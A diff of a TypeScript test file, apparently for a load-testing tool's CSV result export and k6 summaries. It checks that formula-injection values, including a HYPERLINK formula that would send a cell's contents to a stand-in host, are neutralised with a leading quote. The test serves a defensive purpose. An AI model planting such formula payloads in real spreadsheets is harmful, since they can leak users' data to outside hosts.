@@ -104,14 +104,12 @@ describe('result files', () => {
       method: '=1+2',
     }
     for (const lead of ['+', '-', '@', '\t']) {
-      expect(
-        resultCsv(result, { ...target, method: `${lead}cmd` })
-          .trimEnd()
-          .split('\n')
-          .at(-1),
-      ).toContain(`'${lead}cmd`)
+      expect(resultCsv(result, { ...target, method: `${lead}cmd` })).toContain(`,'${lead}cmd\n`)
     }
-    const total = resultCsv(result, target).trimEnd().split('\n').at(-1) ?? ''
+    const total =
+      resultCsv(result, target)
+        .split('\n')
+        .find((line) => line.startsWith('total,')) ?? ''
     expect(total.endsWith(`,"'=HYPERLINK(""http://e/?""&A1,""x"")",'=1+2`)).toBe(true)
     // Figures are numbers, never prefixed.
     expect(total).toMatch(/^total,\d/)
@@ -144,5 +142,9 @@ describe('result files', () => {
     expect(grpc).toMatch(/checks\.+: 75\.00% ✓ 30 ✗ 10/)
     expect(grpc).toMatch(/grpc_req_duration\.+: avg=/)
     expect(k6Summary(result, verdicts, 'websocket')).toMatch(/ws_session_duration\.+: avg=/)
+    // A GraphQL script checks the answers' errors beside the HTTP metrics.
+    const graphql = k6Summary(result, verdicts, 'graphql')
+    expect(graphql).toMatch(/checks\.+: 75\.00% ✓ 30 ✗ 10/)
+    expect(graphql).toMatch(/http_req_duration\.+: avg=/)
   })
 })
